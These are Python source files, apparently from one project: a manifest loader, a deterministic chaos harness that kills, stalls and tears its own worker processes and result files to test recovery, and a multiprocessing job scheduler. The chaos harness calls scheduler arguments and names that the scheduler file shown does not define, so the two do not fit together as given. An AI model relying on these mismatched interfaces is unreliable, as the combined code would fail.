    def __iter__(self) -> Iterator[JobSpec]:
        return iter(self.jobs)

    def shard(self, workers: int) -> List[List[JobSpec]]:
        """Round-robin job assignment across ``workers`` shards.

        Used for accounting/display; the pool itself steals work
        dynamically, so a slow job never serialises its whole shard.
        """
        workers = max(1, workers)
        shards: List[List[JobSpec]] = [[] for _ in range(workers)]
        for index, job in enumerate(self.jobs):
            shards[index % workers].append(job)
        return shards

    def to_dict(self) -> Dict:
        return {"schema": FARM_SCHEMA_VERSION,
                "jobs": [job.to_dict() for job in self.jobs]}

    @classmethod
    def from_dict(cls, data: Dict) -> "Manifest":
        return cls(jobs=[JobSpec.from_dict(row)
                         for row in data.get("jobs", [])])

    def save(self, path: str) -> None:
        with open(path, "w") as handle:
            json.dump(self.to_dict(), handle, indent=2)
            handle.write("\n")

    @classmethod
    def load(cls, source: str, **overrides) -> "Manifest":
        """``"builtin"`` or a path to a manifest JSON file."""
        if source == "builtin":
            return cls.builtin(**overrides)
        with open(source) as handle:
            return cls.from_dict(json.load(handle))

    @classmethod
    def builtin(cls, config: str = "ndroid", seed: int = 0,
                events: int = 12, trace: bool = False) -> "Manifest":
        """The full built-in corpus: every scenario + every market app."""
        from repro.apps import ALL_SCENARIOS
        from repro.apps.market import MARKET_APPS
        jobs = [JobSpec(id=f"scenario:{name}", kind="scenario", target=name,
                        config=config, seed=seed, trace=trace)
                for name in ALL_SCENARIOS]
        jobs += [JobSpec(id=f"market:{package}", kind="market",
                         target=package, config=config, seed=seed,
                         events=events, trace=trace)
                 for package in MARKET_APPS]
        return cls(jobs=jobs)
