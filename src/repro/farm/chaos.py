"""The chaos harness: prove the farm's recovery invariants, on purpose.

Fault tolerance that has never been exercised is a rumor.  This module
injects the three failure modes the fleet actually meets — worker death,
worker hang, torn result files — plus the one the scheduler itself
meets (SIGKILL mid-run), then checks that recovery holds the invariants
the rest of the system depends on.

Determinism: every injection decision is a pure function of
``(seed, kind, job digest, attempt)`` — a SHA-256 keyed coin, no RNG
state, no wall clock — so the same seed over the same manifest injects
the same faults in every process, on every host, including across the
scheduler-kill/resume boundary.  One job per manifest is elected the
**poison target**: its worker is killed on *every* attempt, which is
exactly the behaviour that must end in quarantine, never in a retry
loop and never in more than one classified outcome.

:func:`run_chaos_harness` is the end-to-end proof (`repro farm --chaos
SEED`):

1. run the manifest serially, clean — the parity baseline;
2. run it under chaos in a **subprocess** scheduler and SIGKILL that
   scheduler mid-run (then reap the worker orphans the SIGKILL leaked,
   using the pids the journal recorded);
3. tear a committed result file in half — the power-loss case;
4. resume in-process with the same chaos seed, to completion;
5. assert the invariants: every job classified, zero lost, zero
   duplicates, store verifies, journal legal, poison quarantined
   exactly once, and every non-poison row identical to the clean
   serial baseline.
"""

from __future__ import annotations

import hashlib
import json
import os
import signal
import subprocess
import sys
import time
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.farm.journal import iter_events, replay, verify_journal
from repro.farm.manifest import Manifest
from repro.farm.merge import FarmReport, merge_results, sink_counts
from repro.farm.store import ResultStore

DEFAULT_KILL_PCT = 25
DEFAULT_STOP_PCT = 12
DEFAULT_TRUNCATE_PCT = 12


def _coin(seed: int, kind: str, digest: str, attempt: int) -> int:
    """A deterministic integer in [0, 100) for one injection decision."""
    key = f"{seed}:{kind}:{digest}:{attempt}".encode()
    return int.from_bytes(hashlib.sha256(key).digest()[:8], "big") % 100


def pick_poison_digest(manifest: Manifest, seed: int) -> str:
    """Elect one job as the poison target, deterministically per seed."""
    digests = [spec.digest() for spec in manifest]
    if not digests:
        raise ValueError("empty manifest has no poison candidate")
    key = hashlib.sha256(f"{seed}:poison".encode()).digest()
    return digests[int.from_bytes(key[:8], "big") % len(digests)]


class ChaosMonkey:
    """Deterministic in-run fault injector, driven by the scheduler.

    The scheduler calls :meth:`on_spawn` right after forking a worker
    (the monkey may SIGKILL or SIGSTOP it) and :meth:`on_commit` right
    before reading a finished worker's committed result (the monkey may
    truncate the file, simulating a torn write the fsync discipline
    could not have prevented — e.g. media damage).  Non-poison jobs are
    only molested on their first attempt, so every injected fault is
    recoverable by exactly one retry; the poison target is killed on
    every attempt and can only end quarantined.
    """

    def __init__(self, seed: int, poison_digest: Optional[str] = None,
                 kill_pct: int = DEFAULT_KILL_PCT,
                 stop_pct: int = DEFAULT_STOP_PCT,
                 truncate_pct: int = DEFAULT_TRUNCATE_PCT) -> None:
        self.seed = seed
        self.poison_digest = poison_digest
        self.kill_pct = kill_pct
        self.stop_pct = stop_pct
        self.truncate_pct = truncate_pct
        self.kills = 0
        self.stops = 0
        self.truncations = 0

    @classmethod
    def for_manifest(cls, manifest: Manifest, seed: int,
                     **options) -> "ChaosMonkey":
        return cls(seed, poison_digest=pick_poison_digest(manifest, seed),
                   **options)

    # -- decisions (pure) -----------------------------------------------------

    def wants_kill(self, digest: str, attempt: int) -> bool:
        if digest == self.poison_digest:
            return True
        return attempt == 1 and \
            _coin(self.seed, "kill", digest, attempt) < self.kill_pct

    def wants_stop(self, digest: str, attempt: int) -> bool:
        if self.wants_kill(digest, attempt):
            return False
        return attempt == 1 and \
            _coin(self.seed, "stop", digest, attempt) < self.stop_pct

    def wants_truncate(self, digest: str, attempt: int) -> bool:
        return attempt == 1 and digest != self.poison_digest and \
            _coin(self.seed, "truncate", digest, attempt) < self.truncate_pct

    # -- injections (called by the scheduler) ---------------------------------

    def on_spawn(self, handle) -> Optional[str]:
        if self.wants_kill(handle.digest, handle.attempt):
            self._signal(handle.pid, signal.SIGKILL)
            self.kills += 1
            return "killed"
        if self.wants_stop(handle.digest, handle.attempt):
            self._signal(handle.pid, signal.SIGSTOP)
            self.stops += 1
            return "stopped"
        return None

    def on_commit(self, handle, path: str) -> bool:
        if not self.wants_truncate(handle.digest, handle.attempt):
            return False
        try:
            size = os.path.getsize(path)
            with open(path, "r+b") as fh:
                fh.truncate(size // 2)
        except OSError:
            return False
        self.truncations += 1
        return True

    @staticmethod
    def _signal(pid: int, signum: int) -> None:
        try:
            os.kill(pid, signum)
        except ProcessLookupError:
            pass

    def summary(self) -> Dict:
        return {"seed": self.seed, "poison_digest": self.poison_digest,
                "kills": self.kills, "stops": self.stops,
                "truncations": self.truncations}


# -- the harness --------------------------------------------------------------

def parity_fields(result: Dict) -> Dict:
    """The deterministic face of a result row (what parity compares)."""
    return {
        "id": result["job"]["id"],
        "status": result["status"],
        "leaks": len(result.get("leaks", [])),
        "destinations": sorted({leak["destination"]
                                for leak in result.get("leaks", [])
                                if leak.get("destination")}),
        "sinks": sink_counts(result.get("metrics", {})),
        "degraded_events": result.get("degraded_events", 0),
        "detected": result.get("detected"),
    }


@dataclass
class ChaosReport:
    """Everything one harness run proved (or failed to)."""

    seed: int
    poison_digest: str
    invariants: Dict[str, bool] = field(default_factory=dict)
    stats: Dict = field(default_factory=dict)
    failures: List[str] = field(default_factory=list)
    final_report: Optional[FarmReport] = None

    @property
    def ok(self) -> bool:
        return not self.failures and all(self.invariants.values())

    def check(self, name: str, holds: bool, detail: str = "") -> None:
        self.invariants[name] = bool(holds)
        if not holds:
            self.failures.append(f"{name}: {detail}" if detail else name)

    def to_dict(self) -> Dict:
        return {"seed": self.seed, "poison_digest": self.poison_digest,
                "ok": self.ok, "invariants": dict(self.invariants),
                "failures": list(self.failures), "stats": dict(self.stats)}


def _repro_env() -> Dict[str, str]:
    """Environment for a subprocess scheduler: make ``repro`` importable."""
    import repro
    src = os.path.dirname(os.path.dirname(os.path.abspath(repro.__file__)))
    env = dict(os.environ)
    existing = env.get("PYTHONPATH")
    env["PYTHONPATH"] = f"{src}:{existing}" if existing else src
    return env


def _journal_counts(path: str) -> Dict[str, int]:
    counts: Dict[str, int] = {}
    for event in iter_events(path):
        counts[event["event"]] = counts.get(event["event"], 0) + 1
    return counts


def _kill_leaked_workers(journal_path: str) -> int:
    """Reap worker orphans after the scheduler was SIGKILLed.

    A SIGKILLed scheduler cannot drain: its forked workers are
    reparented to init, and a SIGSTOP'd one would sleep forever.  The
    journal's ``dispatched`` pids identify them.
    """
    state = replay(journal_path)
    pids = set()
    for event in iter_events(journal_path):
        if event["event"] == "dispatched" and \
                event.get("digest") in state.in_flight_digests():
            pid = event.get("pid")
            if isinstance(pid, int):
                pids.add(pid)
    killed = 0
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
            killed += 1
        except (ProcessLookupError, PermissionError):
            continue
    return killed


def run_chaos_harness(manifest: Manifest, seed: int, out_dir: str,
                      workers: int = 2, budget: Optional[int] = None,
                      deadline: float = 10.0, max_retries: int = 3,
                      kill_after_done: int = 1,
                      subprocess_timeout: float = 120.0) -> ChaosReport:
    """Run the full kill/tear/resume drill; returns the proof."""
    from repro.farm.scheduler import (
        DEFAULT_POISON_THRESHOLD, FarmScheduler, STATUS_POISON)
    from repro.farm.worker import DEFAULT_BUDGET

    budget = DEFAULT_BUDGET if budget is None else budget
    poison = pick_poison_digest(manifest, seed)
    report = ChaosReport(seed=seed, poison_digest=poison)
    os.makedirs(out_dir, exist_ok=True)

    # 1. Clean serial baseline (no store, no chaos): the ground truth.
    baseline_scheduler = FarmScheduler(manifest, workers=1, budget=budget)
    baseline = {row["digest"]: parity_fields(row)
                for row in baseline_scheduler.run()}

    manifest_path = os.path.join(out_dir, "manifest.json")
    manifest.save(manifest_path)
    run_dir = os.path.join(out_dir, "runstate")
    journal_path = os.path.join(run_dir, "journal.jsonl")
    store = ResultStore(os.path.join(out_dir, "cache"))

    # 2. Chaos run in a subprocess scheduler, SIGKILLed mid-run.
    command = [sys.executable, "-m", "repro", "farm", manifest_path,
               "-j", str(workers), "--out", out_dir,
               "--chaos-inject", str(seed), "--deadline", str(deadline),
               "--max-retries", str(max_retries), "--budget", str(budget)]
    start = time.monotonic()
    process = subprocess.Popen(command, env=_repro_env(),
                               stdout=subprocess.DEVNULL,
                               stderr=subprocess.DEVNULL)
    scheduler_killed = False
    while process.poll() is None:
        if time.monotonic() - start > subprocess_timeout:
            process.kill()
            process.wait()
            report.failures.append("chaos subprocess timed out")
            break
        counts = _journal_counts(journal_path)
        if counts.get("done", 0) >= kill_after_done:
            os.kill(process.pid, signal.SIGKILL)
            process.wait()
            scheduler_killed = True
            break
        time.sleep(0.002)
    leaked = _kill_leaked_workers(journal_path) if scheduler_killed else 0

    # 3. Tear a committed result in half (the post-fsync damage case).
    torn_digest = None
    for digest in store.digests():
        if digest != poison:
            path = os.path.join(store.directory, f"{digest}.json")
            size = os.path.getsize(path)
            with open(path, "r+b") as fh:
                fh.truncate(max(1, size // 2))
            torn_digest = digest
            break

    # 4. Resume in-process, same chaos seed, run to completion.
    chaos = ChaosMonkey(seed, poison_digest=poison)
    resume_scheduler = FarmScheduler(
        manifest, workers=workers, store=store, resume=True, budget=budget,
        deadline=deadline, max_retries=max_retries, run_dir=run_dir,
        chaos=chaos)
    results = resume_scheduler.run()
    final = merge_results(results, workers=workers,
                          wall_seconds=resume_scheduler.wall_seconds,
                          cached_jobs=resume_scheduler.cached_jobs,
                          health=resume_scheduler.health.summary())
    report.final_report = final

    # 5. The invariants.
    digests = [row["digest"] for row in results]
    report.check("all_jobs_classified",
                 len(results) == len(manifest) and
                 all(row is not None for row in results),
                 f"{len(results)}/{len(manifest)} rows")
    report.check("no_duplicate_records", len(set(digests)) == len(digests),
                 "duplicate digests in merged results")
    report.check("no_lost_jobs", final.outcomes.get("lost", 0) == 0,
                 f"lost={final.outcomes.get('lost', 0)}")
    report.check("no_interrupted_jobs",
                 final.outcomes.get("interrupted", 0) == 0,
                 f"interrupted={final.outcomes.get('interrupted', 0)}")
    poison_rows = [row for row in results
                   if row["status"] == STATUS_POISON]
    report.check("poison_classified_exactly_once",
                 len(poison_rows) == 1 and
                 poison_rows[0]["digest"] == poison,
                 f"{len(poison_rows)} poison rows")
    journal_violations = verify_journal(journal_path)
    report.check("journal_legal", not journal_violations,
                 "; ".join(journal_violations[:4]))
    good, bad = store.verify()
    report.check("store_verifies", not bad, f"bad entries: {bad[:4]}")
    report.check("store_complete", len(good) == len(manifest),
                 f"{len(good)}/{len(manifest)} cached")
    mismatches = [digest for digest, fields in baseline.items()
                  if digest != poison and
                  parity_fields(results[digests.index(digest)]) != fields]
    report.check("parity_with_serial_baseline", not mismatches,
                 f"{len(mismatches)} rows differ from clean serial run")
    report.check("scheduler_was_killed", scheduler_killed,
                 "chaos subprocess finished before the SIGKILL landed")
    report.check("torn_file_injected", torn_digest is not None,
                 "no committed result available to tear")

    report.stats = {
        "chaos": chaos.summary(),
        "journal_events": _journal_counts(journal_path),
        "health": resume_scheduler.health.summary(),
        "leaked_workers_reaped": leaked,
        "torn_digest": torn_digest,
        "resumed_from_cache": resume_scheduler.cached_jobs,
        "outcomes": dict(final.outcomes),
        "poison_threshold": DEFAULT_POISON_THRESHOLD,
    }
    with open(os.path.join(out_dir, "chaos.json"), "w") as handle:
        json.dump(report.to_dict(), handle, indent=2, sort_keys=True)
        handle.write("\n")
    return report


def render_chaos_report(report: ChaosReport) -> str:
    lines = ["== chaos ==",
             f"  seed:   {report.seed}",
             f"  poison: {report.poison_digest[:12]}…",
             f"  verdict: {'RECOVERED' if report.ok else 'BROKEN'}"]
    for name, holds in sorted(report.invariants.items()):
        lines.append(f"  [{'ok' if holds else 'FAIL'}] {name}")
    stats = report.stats
    if stats:
        chaos = stats.get("chaos", {})
        health = stats.get("health", {})
        lines.append(
            f"  injected: kills={chaos.get('kills', 0)} "
            f"stops={chaos.get('stops', 0)} "
            f"truncations={chaos.get('truncations', 0)} "
            f"+1 scheduler SIGKILL +1 torn store file")
        lines.append(
            f"  recovered: retries={health.get('retries', 0)} "
            f"reclaimed={health.get('workers_reclaimed', 0)} "
            f"quarantined={health.get('poison_quarantined', 0)} "
            f"mttr={health.get('mean_time_to_reclaim_seconds', 0):.3f}s")
    if report.failures:
        for failure in report.failures:
            lines.append(f"  !! {failure}")
    return "\n".join(lines) + "\n"
