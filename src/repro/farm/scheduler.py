"""The farm scheduler: shard, dispatch, cache, and never lose a job.

``workers=1`` executes inline in this process — that *is* the serial
baseline the parity tests and the bench compare against, not a special
case bolted on.  ``workers>1`` dispatches to a ``multiprocessing`` pool
(fork start method where available, so workers inherit the loaded
modules instead of re-importing).  Dispatch is dynamic work-stealing:
the round-robin shards from :meth:`Manifest.shard` are accounting only,
so one slow job never serialises its shard-mates behind it.

Every job ends in exactly one of:

* a **cached** result — ``resume=True`` and the result store already
  holds this content digest;
* a **worker result** — whatever :func:`execute_job` classified
  (``ok``/``degraded``/``crashed``/``timeout``), stored under the digest;
* a **lost** result — the worker process itself died (the pool broke
  under it); synthesized here so the merged report still accounts for
  the job.  Lost results are never cached.
"""

from __future__ import annotations

import time
from typing import Dict, List, Optional

from repro.farm.manifest import JobSpec, Manifest
from repro.farm.store import ResultStore
from repro.farm.worker import DEFAULT_BUDGET, execute_job

STATUS_LOST = "lost"

# Statuses worth replaying from cache on --resume.  Crashes/timeouts are
# deterministic under a fixed spec, so they cache too; only a lost
# worker (environmental) must re-run.
CACHEABLE = ("ok", "degraded", "crashed", "timeout")


def _lost_result(spec: JobSpec, error: BaseException,
                 elapsed: float) -> Dict:
    return {
        "job": spec.to_dict(),
        "digest": spec.digest(),
        "status": STATUS_LOST,
        "attempts": 1,
        "degraded_events": 0,
        "quarantined_hooks": [],
        "injected_faults": [],
        "error": f"worker lost: {type(error).__name__}: {error}",
        "tombstone": None,
        "elapsed_seconds": elapsed,
        "metrics": {},
        "leaks": [],
    }


class FarmScheduler:
    """Runs a manifest to one result row per job, in manifest order."""

    def __init__(self, manifest: Manifest, workers: int = 1,
                 store: Optional[ResultStore] = None, resume: bool = False,
                 budget: Optional[int] = DEFAULT_BUDGET) -> None:
        self.manifest = manifest
        self.workers = max(1, workers)
        self.store = store
        self.resume = resume and store is not None
        self.budget = budget
        self.cached_jobs = 0
        self.wall_seconds = 0.0

    # -- dispatch -------------------------------------------------------------

    def run(self) -> List[Dict]:
        start = time.perf_counter()
        results: List[Optional[Dict]] = [None] * len(self.manifest)
        pending: List[int] = []
        self.cached_jobs = 0

        for index, spec in enumerate(self.manifest):
            cached = self._from_cache(spec)
            if cached is not None:
                cached["cached"] = True
                results[index] = cached
                self.cached_jobs += 1
            else:
                pending.append(index)

        if pending:
            if self.workers == 1:
                self._run_inline(pending, results)
            else:
                self._run_pool(pending, results)

        for result in results:
            result.setdefault("cached", False)
        self.wall_seconds = time.perf_counter() - start
        return results  # type: ignore[return-value]

    def _from_cache(self, spec: JobSpec) -> Optional[Dict]:
        if not self.resume:
            return None
        result = self.store.get(spec.digest())
        if result is None or result.get("status") not in CACHEABLE:
            return None
        return result

    def _record(self, spec: JobSpec, result: Dict) -> Dict:
        if self.store is not None and result.get("status") in CACHEABLE:
            self.store.put(spec.digest(), result)
        return result

    def _run_inline(self, pending: List[int],
                    results: List[Optional[Dict]]) -> None:
        jobs = self.manifest.jobs
        for index in pending:
            spec = jobs[index]
            results[index] = self._record(
                spec, execute_job(spec.to_dict(), budget=self.budget))

    def _run_pool(self, pending: List[int],
                  results: List[Optional[Dict]]) -> None:
        import multiprocessing
        from concurrent.futures import ProcessPoolExecutor

        jobs = self.manifest.jobs
        try:
            context = multiprocessing.get_context("fork")
        except ValueError:  # pragma: no cover - non-POSIX hosts
            context = multiprocessing.get_context()
        start = time.perf_counter()
        with ProcessPoolExecutor(max_workers=self.workers,
                                 mp_context=context) as pool:
            futures = {index: pool.submit(execute_job,
                                          jobs[index].to_dict(),
                                          self.budget)
                       for index in pending}
            for index, future in futures.items():
                spec = jobs[index]
                try:
                    result = future.result()
                except Exception as error:
                    result = _lost_result(spec, error,
                                          time.perf_counter() - start)
                results[index] = self._record(spec, result)


def run_farm(manifest: Manifest, workers: int = 1,
             store: Optional[ResultStore] = None, resume: bool = False,
             budget: Optional[int] = DEFAULT_BUDGET):
    """Convenience wrapper: schedule, run, merge; returns a FarmReport."""
    from repro.farm.merge import merge_results

    scheduler = FarmScheduler(manifest, workers=workers, store=store,
                              resume=resume, budget=budget)
    results = scheduler.run()
    return merge_results(results, workers=workers,
                         wall_seconds=scheduler.wall_seconds,
                         cached_jobs=scheduler.cached_jobs)
